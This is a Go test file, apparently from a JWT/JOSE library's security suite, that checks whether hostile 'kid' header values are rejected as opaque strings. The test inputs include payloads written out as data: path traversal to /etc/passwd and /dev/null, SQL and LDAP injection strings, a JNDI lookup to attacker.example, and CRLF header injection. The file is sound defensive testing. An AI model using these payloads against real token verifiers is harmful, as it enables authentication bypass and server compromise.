package attacks

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/jose-suite/jose/jwa"
	"github.com/jose-suite/jose/jws"
	"github.com/jose-suite/jose/jwt"
)

// Class: hostile "kid" values. Libraries have used "kid" as a file path
// (reading /dev/null as an empty HMAC key), in SQL and LDAP queries, in URLs
// of key servers, and compared it as a C string (a NUL ends it). Here a
// "kid" is an opaque string compared exactly: it never reaches a path, a
// query or a URL, matches no key by truncation or case, and a huge one costs
// nothing.
//
// Sources: RFC 8725 §3.10 ("kid" SQL/LDAP injection, path traversal);
// RFC 7515 §4.1.4; PortSwigger "JWT authentication bypass via kid header
// path traversal". Package test: jws/attack_test.go ("kid naming no key, path-like").
func TestHostileKeyIDsAreOpaque(t *testing.T) {
	t.Parallel()
	k := fixture(t)
	v := victimVerifier(t)
	jv := validator(t, victimPolicy(t))
	esWith := func(kid string) string {
		return forge(t, k.attack, jwa.ES256, `{"alg":"ES256","kid":`+jsonString(kid)+`}`, goodClaims)
	}
	hsWith := func(kid string) string {
		// MACed with the victim's real secret: only the kid is wrong.
		return forge(t, k.hmac, jwa.HS256, `{"alg":"HS256","kid":`+jsonString(kid)+`}`, goodClaims)
	}
	hostile := []string{
		"../../../../../../dev/null",
		"/dev/null",
		`..\..\..\windows\win.ini`,
		"file:///etc/passwd",
		"' OR '1'='1' --",
		"*)(uid=*))(|(uid=*",
		"${jndi:ldap://attacker.example/a}",
		"?kid=hmac&x=",
		"%2e%2e%2f%2e%2e%2fetc%2fpasswd",
		"\u0000",
		"hmac\r\nX-Injected: 1",
		strings.Repeat("A", 12<<10), // 12 KiB: within the header limit
	}
	for _, kid := range hostile {
		name := kid
		if len(name) > 40 {
			name = name[:40] + "..."
		}
		t.Run("kid "+name, func(t *testing.T) {
			t.Parallel()
			tok := esWith(kid)
			exactly(t, verifyJWS(t, v, tok), jws.ErrNoKey)
			exactly(t, verifyJWT(t, jv, tok), jwt.ErrInvalidSignature, jws.ErrNoKey)
		})
	}
	// A kid that differs from the victim's "hmac" only in ways a sloppy
	// comparison ignores names no key, even with the right MAC.
	for _, kid := range []string{"hmac\u0000", "hmac\u0000../x", "HMAC", "hmac ", " hmac", "hmac\u200b", "hma"} {
		t.Run("kid near "+jsonString(kid), func(t *testing.T) {
			t.Parallel()
			exactly(t, verifyJWS(t, v, hsWith(kid)), jws.ErrNoKey)
		})
	}
	// Beyond the header limit, the size is refused before anything.
	t.Run("kid of 20 KiB", func(t *testing.T) {
		t.Parallel()
		tok := esWith(strings.Repeat("A", 20<<10))
		exactly(t, verifyJWS(t, v, tok), jws.ErrTooLarge)
	})
	for _, bad := range []string{`7`, `["hmac"]`, `{"kid":"hmac"}`, `null`, `true`} {
		t.Run("kid of JSON "+bad, func(t *testing.T) {
			t.Parallel()
			tok := forge(t, k.hmac, jwa.HS256, `{"alg":"HS256","kid":`+bad+`}`, goodClaims)
			exactly(t, verifyJWS(t, v, tok), jws.ErrMalformed)
			exactly(t, verifyJWT(t, jv, tok), jwt.ErrMalformed, jws.ErrMalformed)
		})
	}
}

// TestHostileKeyIDsNeverReachTheKeyServer: a relying party with a remote
// key set looks the "kid" up in the fetched set; the kid never appears in
// a request, and unknown kids refetch at most once per cooldown (so random
// kids cannot make the relying party hammer its provider).
func TestHostileKeyIDsNeverReachTheKeyServer(t *testing.T) {
	t.Parallel()
	k := fixture(t)
	var mu sync.Mutex
	var requests []string
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		requests = append(requests, r.Method+" "+r.URL.RequestURI()+" "+r.Header.Get("Cookie"))
		mu.Unlock()
		w.Write(marshalSet(t, public(t, k.ec)))
	}))
	t.Cleanup(srv.Close)
	rs, err := jwt.NewRemoteSet(jwt.RemoteSetConfig{URL: srv.URL + "/jwks.json", HTTPClient: srv.Client(), Now: func() time.Time { return now }})
	if err != nil {
		t.Fatal(err)
	}
	p := victimPolicy(t)
	p.Keys, p.KeySource = nil, rs
	jv := validator(t, p)
	for _, kid := range []string{"../../../../etc/passwd", "?x=1#frag", "a/b/c", "%00", "\u0000", "' OR 1=1 --", strings.Repeat("k", 8<<10), "ec"} {
		tok := forge(t, k.attack, jwa.ES256, `{"alg":"ES256","kid":`+jsonString(kid)+`}`, goodClaims)
		want := jws.ErrNoKey
		if kid == "ec" { // the victim's kid: the attacker's signature fails
			want = jws.ErrSignatureInvalid
		}
		exactly(t, verifyJWT(t, jv, tok), jwt.ErrInvalidSignature, want)
	}
	mu.Lock()
	defer mu.Unlock()
	// One fetch: the first unknown kid triggers it; the clock stands still,
	// so every later unknown kid is within the cooldown.
	if len(requests) != 1 || requests[0] != "GET /jwks.json " {
		t.Errorf("requests = %q, want exactly one GET /jwks.json", requests)
	}
}

// jsonString returns s as a JSON string literal.
func jsonString(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20:
			b.WriteString(`\u00`)
			b.WriteByte("0123456789abcdef"[r>>4])
			b.WriteByte("0123456789abcdef"[r&15])
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}
